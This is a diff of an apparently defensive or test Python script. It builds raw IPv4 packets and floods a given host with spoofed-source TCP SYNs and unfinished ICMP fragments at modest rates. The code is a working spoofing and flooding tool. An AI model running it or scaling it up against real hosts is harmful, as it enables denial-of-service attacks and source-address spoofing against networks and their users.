@@ -26,15 +26,29 @@ def checksum(b):
     return ~s & 0xFFFF
 
 
-def first_fragment(src, dst, ident):
-    payload = b"\x08\x00\x00\x00" + os.urandom(1476)  # an ICMP echo's start, never finished
-    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, 0x2000, 64, 1, 0,
+def ipv4(src, dst, proto, ident, flags_frag, payload):
+    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, flags_frag, 64, proto, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
-    hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
-    return hdr + payload
+    return hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:] + payload
 
 
-def frags(dst, seconds):
+def first_fragment(src, dst):
+    payload = b"\x08\x00\x00\x00" + os.urandom(1476)  # an ICMP echo's start, never finished
+    return ipv4(src, dst, 1, random.randint(0, 65535), 0x2000, payload)
+
+
+def syn_packet(src, dst, port):
+    sport, seq = random.randint(1024, 65535), random.getrandbits(32)
+    # SYN with MSS 1460: data offset 6 words.
+    tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + b"\x02\x04\x05\xb4"
+    pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
+    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
+    return ipv4(src, dst, 6, random.randint(0, 65535), 0, tcp)
+
+
+def flood(dst, make, burst, per_second, seconds):
+    """`burst` packets from spoofed on-link sources at once, then `per_second`
+    a second for `seconds`; prints how many went out."""
     s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
     net = dst.rsplit(".", 1)[0]
@@ -42,45 +56,14 @@ def frags(dst, seconds):
 
     def one():
         nonlocal sent
-        src = "%s.%d" % (net, random.randint(100, 200))
-        s.sendto(first_fragment(src, dst, random.randint(0, 65535)), (dst, 0))
+        s.sendto(make("%s.%d" % (net, random.randint(100, 250))), (dst, 0))
         sent += 1
 
-    for _ in range(64):
+    for _ in range(burst):
         one()
     end = time.time() + seconds
     while time.time() < end:
-        for _ in range(3):
-            one()
-        time.sleep(1)
-    print(sent)
-
-
-def syn(dst, port, seconds):
-    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
-    net = dst.rsplit(".", 1)[0]
-    sent = 0
-
-    def one():
-        nonlocal sent
-        src = "%s.%d" % (net, random.randint(100, 250))
-        sport, seq = random.randint(1024, 65535), random.getrandbits(32)
-        # SYN with MSS 1460: data offset 6 words.
-        tcp = struct.pack("!HHIIBBHHH", sport, port, seq, 0, 6 << 4, 0x02, 64240, 0, 0) + b"\x02\x04\x05\xb4"
-        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 6, len(tcp))
-        tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
-        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.randint(0, 65535), 0, 64, 6, 0,
-                          socket.inet_aton(src), socket.inet_aton(dst))
-        hdr = hdr[:10] + struct.pack("!H", checksum(hdr)) + hdr[12:]
-        s.sendto(hdr + tcp, (dst, 0))
-        sent += 1
-
-    for _ in range(300):
-        one()
-    end = time.time() + seconds
-    while time.time() < end:
-        for _ in range(5):
+        for _ in range(per_second):
             one()
         time.sleep(1)
     print(sent)
@@ -101,8 +84,10 @@ def arp(iface, dst, count):
 
 if __name__ == "__main__":
     if sys.argv[1] == "frags":
-        frags(sys.argv[2], float(sys.argv[3]))
+        dst = sys.argv[2]
+        flood(dst, lambda src: first_fragment(src, dst), 64, 3, float(sys.argv[3]))
     elif sys.argv[1] == "syn":
-        syn(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
+        dst, port = sys.argv[2], int(sys.argv[3])
+        flood(dst, lambda src: syn_packet(src, dst, port), 300, 5, float(sys.argv[4]))
     else:
         arp(sys.argv[2], sys.argv[3], int(sys.argv[4]))
